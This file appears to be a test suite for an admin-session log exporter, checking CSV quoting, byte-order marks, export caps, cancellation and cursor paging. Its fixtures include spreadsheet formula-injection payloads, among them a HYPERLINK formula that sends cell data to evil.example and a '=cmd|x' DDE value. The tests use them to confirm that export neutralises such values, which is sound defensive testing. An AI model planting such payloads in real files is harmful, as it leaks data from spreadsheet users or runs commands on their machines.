import { expect } from '@open-wc/testing';
import type { FetchPage, PageRequest } from '../../../src/data/adapters/adapter.js';
import type { SessionEntry } from '../../../src/data/entry.js';
import { csvField, CSV_HEADER, exportEntries, exportFileName, neutraliseFormula, toCsvRows, walkPages, type ExportPage } from '../../../src/data/insights/export.js';
import { DEFAULT_QUERY } from '../../../src/data/query.js';
import { entry, SEAN, T0 } from './entry.js';

/** A strict RFC 4180 reader: CRLF record ends, quotes only around whole fields, `""` inside them. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  let fieldStart = true;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char !== '"') field += char;
      else if (text[i + 1] === '"') {
        field += '"';
        i++;
      } else {
        quoted = false;
        const next = text[i + 1];
        if (next !== undefined && next !== ',' && next !== '\r') throw new Error(`text after a closing quote at ${i}`);
      }
      continue;
    }
    if (char === '"') {
      if (!fieldStart) throw new Error(`quote inside an unquoted field at ${i}`);
      quoted = true;
      fieldStart = false;
    } else if (char === ',') {
      row.push(field);
      field = '';
      fieldStart = true;
    } else if (char === '\r') {
      if (text[i + 1] !== '\n') throw new Error(`CR without LF at ${i}`);
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      fieldStart = true;
      i++;
    } else if (char === '\n') {
      throw new Error(`bare LF at ${i}`);
    } else {
      field += char;
      fieldStart = false;
    }
  }
  if (quoted) throw new Error('unterminated quoted field');
  if (!fieldStart || row.length) throw new Error('last record does not end with CRLF');
  return rows;
}

/** What a spreadsheet must show: formula-like cells with a leading apostrophe. */
const shown = (value: string): string => (['=', '+', '-', '@', '\t', '\r'].includes(value.charAt(0)) ? `'${value}` : value);

const HOSTILE: SessionEntry[] = [
  entry({
    id: 'h1',
    admin: { id: 'x', name: 'Eve, "the" Admin\r\nsecond line', email: '=HYPERLINK("http://evil.example/?"&A1,"Click")' },
    ip: '+1',
    url: '-2',
    userAgent: '@SUM(A1:A9)',
  }),
  entry({ id: 'h2', admin: { id: 'y', name: '\tTabbed', email: '\rcarriage' }, ip: null, method: '=cmd|x', userAgent: '"', url: 'https://h/a,b?c="d"\n' }),
  entry({ id: 'h3', admin: null, ip: '2001:db8::1', userAgent: null, url: '' }),
  entry({ id: 'h4', admin: SEAN, url: 'https://h/😀 Seán', userAgent: ' =not at the start', type: 'API', method: 'DELETE' }),
];

const cellsOf = (e: SessionEntry): string[] => [
  new Date(e.time).toISOString(),
  e.admin?.name ?? '',
  e.admin?.email ?? '',
  e.ip ?? '',
  e.type,
  e.method,
  e.url,
  e.userAgent ?? '',
];

async function* pagesOf(...pages: SessionEntry[][]): AsyncGenerator<ExportPage> {
  for (const page of pages) yield page;
}

const page = (count: number, from: number): SessionEntry[] =>
  Array.from({ length: count }, (_, i) => entry({ id: `p${from + i}`, time: T0 - (from + i) * 1000 }));

describe('export: CSV cells', () => {
  it('quotes fields holding a comma, quote, CR or LF, doubling quotes', () => {
    expect(csvField('plain')).to.equal('plain');
    expect(csvField('a,b')).to.equal('"a,b"');
    expect(csvField('say "hi"')).to.equal('"say ""hi"""');
    expect(csvField('a\nb')).to.equal('"a\nb"');
    expect(csvField('a\rb')).to.equal('"a\rb"');
    expect(csvField('')).to.equal('');
  });

  it('neutralises formula-like values with a leading apostrophe (OWASP)', () => {
    for (const value of ['=1+1', '+1', '-2', '@SUM(A1)', '\t=1', '\r=1']) expect(neutraliseFormula(value)).to.equal(`'${value}`);
    for (const value of ['1', ' =1', 'a=b', "'quoted", '']) expect(neutraliseFormula(value)).to.equal(value);
  });

  it('writes a header and one record per entry, with the time in ISO UTC', () => {
    const rows = toCsvRows([entry({ id: 'x', time: Date.UTC(2025, 11, 15, 14, 3, 27, 5) })]);
    expect(rows[0]).to.equal('Time (UTC),Admin,Email,IP,Type,Method,URL,User agent');
    expect(rows[1]).to.equal('2025-12-15T14:03:27.005Z,Ops,ops@example.com,10.0.4.17,WEB,GET,https://panel.example.com/admin/clients,');
    expect(toCsvRows([], { header: false })).to.deep.equal([]);
  });

  it('reads back exactly what was logged, hostile values shown as text', () => {
    const parsed = parseCsv(`${toCsvRows(HOSTILE).join('\r\n')}\r\n`);
    expect(parsed[0]).to.deep.equal([...CSV_HEADER]);
    expect(parsed.slice(1)).to.deep.equal(HOSTILE.map((e) => cellsOf(e).map(shown)));
    expect(parsed[1]![2]).to.equal(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
    expect(parsed[1]!.slice(3, 4).concat(parsed[1]!.slice(6))).to.deep.equal(["'+1", "'-2", "'@SUM(A1:A9)"]);
  });

  it('reads back byte for byte when neutralising is turned off', () => {
    const parsed = parseCsv(`${toCsvRows(HOSTILE, { neutraliseFormulas: false, header: false }).join('\r\n')}\r\n`);
    expect(parsed).to.deep.equal(HOSTILE.map(cellsOf));
  });
});

describe('export: files', () => {
  const NOW = Date.UTC(2025, 11, 15, 14, 3, 27);

  it('names files by export time in UTC and states a cap', () => {
    expect(exportFileName('csv', NOW)).to.equal('admin-sessions-2025-12-15T1403Z.csv');
    expect(exportFileName('json', NOW, 100_000)).to.equal('admin-sessions-2025-12-15T1403Z-first-100000.json');
  });

  it('exports CSV page by page with CRLF endings, a BOM and progress', async () => {
    const progress: number[] = [];
    const result = await exportEntries({ pages: pagesOf(HOSTILE.slice(0, 2), [], HOSTILE.slice(2)), format: 'csv', now: NOW, onProgress: (n) => progress.push(n) });
    expect(result).to.deep.include({ fileName: 'admin-sessions-2025-12-15T1403Z.csv', count: 4, capped: false });
    expect(result.blob.type).to.equal('text/csv;charset=utf-8');
    const bytes = new Uint8Array(await result.blob.arrayBuffer());
    expect([...bytes.slice(0, 3)]).to.deep.equal([0xef, 0xbb, 0xbf]);
    const text = await result.blob.text(); // decoding drops the BOM
    expect(text.endsWith('\r\n')).to.equal(true);
    expect(parseCsv(text)).to.deep.equal([[...CSV_HEADER], ...HOSTILE.map((e) => cellsOf(e).map(shown))]);
    expect(progress).to.deep.equal([2, 4]);
    const noBom = await exportEntries({ pages: pagesOf([]), format: 'csv', bom: false });
    expect(new Uint8Array(await noBom.blob.arrayBuffer())[0]).to.equal('T'.charCodeAt(0));
    expect(await noBom.blob.text()).to.equal(`${CSV_HEADER.join(',')}\r\n`);
  });

  it('exports JSON untouched: formula-like values stay as they are, only the entry fields', async () => {
    const leaky = { ...HOSTILE[0]!, sessionId: 'secret', debugSql: 'select 1' } as SessionEntry;
    const result = await exportEntries({ pages: pagesOf([leaky], HOSTILE.slice(1)), format: 'json', now: NOW });
    expect(result).to.deep.include({ fileName: 'admin-sessions-2025-12-15T1403Z.json', count: 4, capped: false });
    expect(result.blob.type).to.equal('application/json');
    const records = JSON.parse(await result.blob.text()) as Record<string, unknown>[];
    expect(records).to.deep.equal(HOSTILE.map((e) => ({ ...e, time: new Date(e.time).toISOString() })));
    expect(records[0]!.admin).to.deep.include({ email: '=HYPERLINK("http://evil.example/?"&A1,"Click")' });
    expect(JSON.parse(await (await exportEntries({ pages: pagesOf(), format: 'json' })).blob.text())).to.deep.equal([]);
  });

  it('accepts SessionPage objects as well as arrays', async () => {
    async function* sessionPages(): AsyncGenerator<ExportPage> {
      yield { entries: page(3, 0) };
      yield page(2, 3);
    }
    expect((await exportEntries({ pages: sessionPages(), format: 'csv' })).count).to.equal(5);
  });

  it('stops at the cap, says so in the name and result, and stops fetching', async () => {
    let fetched = 0;
    let closed = false;
    async function* source(): AsyncGenerator<ExportPage> {
      try {
        for (let p = 0; p < 10; p++) {
          fetched++;
          yield page(40, p * 40);
        }
      } finally {
        closed = true;
      }
    }
    const result = await exportEntries({ pages: source(), format: 'csv', cap: 100, now: NOW });
    expect(result).to.deep.include({ count: 100, capped: true, fileName: 'admin-sessions-2025-12-15T1403Z-first-100.csv' });
    expect(fetched).to.equal(3);
    await Promise.resolve();
    expect(closed).to.equal(true);
    const rows = parseCsv(await result.blob.text());
    expect(rows.length).to.equal(101);
    expect(rows[100]![0]).to.equal(new Date(T0 - 99_000).toISOString());
  });

  it('is capped only when there was more: a cap met exactly by the last page is not', async () => {
    expect(await exportEntries({ pages: pagesOf(page(50, 0), page(50, 50)), format: 'json', cap: 100 })).to.deep.include({ count: 100, capped: false });
    expect(await exportEntries({ pages: pagesOf(page(50, 0), page(50, 50), [], page(1, 100)), format: 'json', cap: 100 })).to.deep.include({
      count: 100,
      capped: true,
    });
  });

  it('exports 100,000 entries by default and caps the 100,001st', async function () {
    this.timeout(60_000);
    const pages = Array.from({ length: 201 }, (_, p) => page(500, p * 500));
    const progress: number[] = [];
    const result = await exportEntries({ pages: pagesOf(...pages), format: 'csv', now: NOW, onProgress: (n) => progress.push(n) });
    expect(result).to.deep.include({ count: 100_000, capped: true, fileName: 'admin-sessions-2025-12-15T1403Z-first-100000.csv' });
    expect(progress.at(-1)).to.equal(100_000);
    const text = await result.blob.text();
    expect(text.split('\r\n').length).to.equal(100_002); // header, 100,000 records, '' after the last CRLF
  });

  it('rejects with AbortError as soon as it is cancelled, even while a page is pending', async () => {
    const controller = new AbortController();
    let askedForMore!: () => void;
    const pending = new Promise<void>((resolve) => (askedForMore = resolve));
    async function* stuck(): AsyncGenerator<ExportPage> {
      yield page(10, 0);
      askedForMore();
      await new Promise(() => undefined);
    }
    const exporting = exportEntries({ pages: stuck(), format: 'csv', signal: controller.signal });
    await pending; // the first page is written and the second one is pending
    controller.abort();
    const error = await exporting.then(
      () => null,
      (e: unknown) => e,
    );
    expect(error).to.be.instanceOf(DOMException);
    expect((error as DOMException).name).to.equal('AbortError');
  });

  it('stops fetching pages once cancelled, and never starts when already cancelled', async () => {
    const controller = new AbortController();
    const requests: PageRequest[] = [];
    const fetchPage: FetchPage = async (request) => {
      requests.push(request);
      const start = Number(request.cursor ?? '0');
      return { entries: page(request.limit, start), total: null, nextCursor: String(start + request.limit) };
    };
    const exporting = exportEntries({
      pages: walkPages(fetchPage, DEFAULT_QUERY, { limit: 10, signal: controller.signal }),
      format: 'json',
      signal: controller.signal,
      onProgress: (count) => count >= 20 && controller.abort(),
    });
    const error = await exporting.catch((e: unknown) => e);
    expect((error as DOMException).name).to.equal('AbortError');
    expect(requests.length).to.equal(2);
    expect(requests.every((r) => r.signal === controller.signal)).to.equal(true);

    let started = false;
    const cancelled = new AbortController();
    cancelled.abort();
    async function* source(): AsyncGenerator<ExportPage> {
      started = true;
      yield [];
    }
    const rejected = await exportEntries({ pages: source(), format: 'csv', signal: cancelled.signal }).catch((e: unknown) => e);
    expect((rejected as DOMException).name).to.equal('AbortError');
    expect(started).to.equal(false);
  });

  it('passes a failing page through, not as a cancellation', async () => {
    async function* failing(): AsyncGenerator<ExportPage> {
      yield page(1, 0);
      throw new Error('server said no');
    }
    const error = await exportEntries({ pages: failing(), format: 'csv' }).catch((e: unknown) => e);
    expect((error as Error).message).to.equal('server said no');
  });

  it('walks pages by cursor until the last', async () => {
    const cursors: (string | null)[] = [];
    const fetchPage: FetchPage = async (request) => {
      cursors.push(request.cursor);
      const start = Number(request.cursor ?? '0');
      return { entries: page(request.limit, start), total: 25, nextCursor: start + request.limit < 25 ? String(start + request.limit) : null };
    };
    const result = await exportEntries({ pages: walkPages(fetchPage, DEFAULT_QUERY, { limit: 10 }), format: 'csv' });
    expect(result.count).to.equal(30);
    expect(cursors).to.deep.equal([null, '10', '20']);
  });
});
